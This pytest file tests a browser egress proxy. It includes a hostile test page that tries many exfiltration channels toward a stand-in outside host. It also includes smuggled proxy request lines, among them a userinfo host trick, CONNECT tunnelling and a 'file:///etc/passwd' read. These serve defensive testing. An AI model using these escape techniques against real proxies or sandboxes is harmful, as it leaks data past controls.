"""What a hostile page tries against the gate, watched by a server and a datagram socket outside the browser."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

import pytest
from playwright.async_api import Browser

from anfang.shopper.browser import new_context
from anfang.shopper.gate import MARK, REFUSED, Gate
from anfang.shopper.tab import Tab

pytestmark = pytest.mark.browser
HERE, THERE = "qinghe.portal.test", "elsewhere.portal.test"


@dataclass
class Listener:
    """Answers every host with the page given; `heard` holds 'METHOD host path' of every request that arrived."""

    port: int = 0
    page: str = ""
    heard: list[str] = field(default_factory=list)

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        lines = (await reader.readuntil(b"\r\n\r\n")).decode().split("\r\n")
        host = next(line[6:].split(":")[0] for line in lines if line.lower().startswith("host: "))
        method, path, _ = lines[0].split()
        self.heard.append(f"{method} {host} {path}")
        head, body = "HTTP/1.1 200 OK", self.page.replace("PORT", str(self.port))
        if path == "/off":
            head, body = f"HTTP/1.1 302 Found\r\nLocation: http://{THERE}:{self.port}/landing", ""
        told = f"{head}\r\nContent-Type: text/html; charset=utf-8\r\nContent-Length: {len(body.encode())}\r\nConnection: close\r\n\r\n"
        writer.write((told + body).encode())
        writer.close()

    @property
    def strays(self) -> list[str]:
        return [one for one in self.heard if f" {HERE} " not in one]


@pytest.fixture
async def listener() -> AsyncIterator[Listener]:
    made = Listener()
    server = await asyncio.start_server(made.answer, "127.0.0.1", 0)
    made.port = server.sockets[0].getsockname()[1]
    yield made
    server.close()


@asynccontextmanager
async def behind_a_gate(browser: Browser, listener: Listener) -> AsyncIterator[tuple[Tab, Gate]]:
    allowed = f"http://{HERE}:"
    with Gate(lambda url: url.startswith(allowed), lab=True) as gate:
        context = await new_context(browser, gate=gate.url)
        tab = Tab(context, allowed=lambda url: url.startswith(allowed))
        await tab.open()
        try:
            yield tab, gate
        finally:
            gate.shut()
            await context.close()


ESCAPES = """<!doctype html><title>门户</title><p>办事服务 办事指南 咨询投诉 在线查询 个人办事 法人办事 政务公开 互动交流
<img src="http://elsewhere.portal.test:PORT/image"><link rel=preload as=script href="http://elsewhere.portal.test:PORT/preload">
<link rel=dns-prefetch href="//elsewhere.portal.test:PORT"><link rel=preconnect href="http://elsewhere.portal.test:PORT">
<iframe src="http://elsewhere.portal.test:PORT/frame"></iframe><a ping="http://elsewhere.portal.test:PORT/ping" href="#x" id=a>x</a>
<script>
const out = 'http://elsewhere.portal.test:PORT/';
fetch(out + 'fetch', {mode: 'no-cors'}).catch(() => {}); fetch('/off', {mode: 'no-cors'}).catch(() => {});
const asked = new XMLHttpRequest(); asked.open('POST', out + 'xhr'); asked.send('x');
navigator.sendBeacon(out + 'beacon', 'x'); document.getElementById('a').click();
try { new WebSocket('ws://elsewhere.portal.test:PORT/socket') } catch (e) {}
new EventSource(out + 'events');
const worker = new Worker(URL.createObjectURL(new Blob([`fetch('${out}worker', {mode: 'no-cors'})`])));
try { const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]}); peer.createDataChannel('x');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer)); } catch (e) {}
addEventListener('pagehide', () => { fetch('/unload', {method: 'POST', keepalive: true, body: 'x'}); navigator.sendBeacon('/unload', 'x'); });
open(out + 'popup');
</script>"""


async def test_nothing_leaves_the_list_of_hosts_and_nothing_is_written_at_unload(browser: Browser, listener: Listener) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.bind(("127.0.0.1", 0))
        datagrams.setblocking(False)
        listener.page = ESCAPES.replace("UDP", str(datagrams.getsockname()[1]))
        async with behind_a_gate(browser, listener) as (tab, gate):
            await tab.goto(f"http://{HERE}:{listener.port}/")
            await tab.popups_done()
            await tab.goto(f"http://{HERE}:{listener.port}/next")
        with pytest.raises(BlockingIOError):
            datagrams.recv(1)
    assert listener.strays == []
    assert not [one for one in listener.heard if "POST" in one or "unload" in one]
    assert f"GET {HERE} /off" in listener.heard, "the hop itself was allowed"
    refused = {address.rsplit("/", 1)[-1] for _method, address, _reason in gate.log.refused}
    assert {"image", "frame", "fetch", "landing", "xhr", "events", "worker"} <= refused


async def test_a_redirect_to_another_host_is_our_policy_and_not_the_portals_failure(browser: Browser, listener: Listener) -> None:
    async with behind_a_gate(browser, listener) as (tab, gate):
        arrival = await tab.goto(f"http://{HERE}:{listener.port}/off")
        assert (arrival.status, listener.strays) == (REFUSED, [])
        assert gate.log.refused == [("GET", f"http://{THERE}:{listener.port}/landing", "host not allowed")]
        assert tab.url.startswith(f"http://{THERE}:"), "the walker tells it by where the tab stands: off_site"


async def test_a_gate_that_is_shut_lets_nothing_through(browser: Browser, listener: Listener) -> None:
    listener.page = "<title>门户</title>" + "办事服务 " * 30
    async with behind_a_gate(browser, listener) as (tab, gate):
        await tab.goto(f"http://{HERE}:{listener.port}/")
        gate.shut()
        heard = len(listener.heard)
        arrival = await tab.goto(f"http://{HERE}:{listener.port}/late")
        assert "ERR_PROXY_CONNECTION_FAILED" in arrival.failure
        assert len(listener.heard) == heard


async def ask(gate: Gate, request: str) -> bytes:
    reader, writer = await asyncio.open_connection("127.0.0.1", int(gate.url.rsplit(":", 1)[1]))
    writer.write(request.encode())
    answer = await reader.read()
    writer.close()
    return answer


@pytest.mark.parametrize(
    "request_line",
    [
        f"GET http://{HERE}@{THERE}:1/ HTTP/1.1",
        f"GET http://{HERE}.evil.test:1/ HTTP/1.1",
        f"CONNECT {THERE}:443 HTTP/1.1",
        "GET file:///etc/passwd HTTP/1.1",
        "GET / HTTP/1.1",
    ],
)
async def test_what_is_not_allowed_is_refused_with_a_mark_that_no_portal_can_forge(request_line: str) -> None:
    with Gate(lambda url: url.startswith(f"http://{HERE}:"), lab=True) as gate:
        answer = await ask(gate, f"{request_line}\r\nHost: {HERE}\r\n\r\n")
        assert answer.startswith(f"HTTP/1.1 {REFUSED} ".encode())
        assert f"{MARK}: {gate.secret}".encode() in answer
        assert gate.log.passed == []


async def test_a_public_name_may_not_lead_to_this_machine_in_live_field_work() -> None:
    with Gate(lambda _url: True, lab=False) as gate:
        answer = await ask(gate, "GET http://localhost:1/ HTTP/1.1\r\nHost: localhost\r\n\r\n")
        assert answer.startswith(f"HTTP/1.1 {REFUSED} ".encode())
        assert "localhost leads to" in gate.log.refused[0][2]
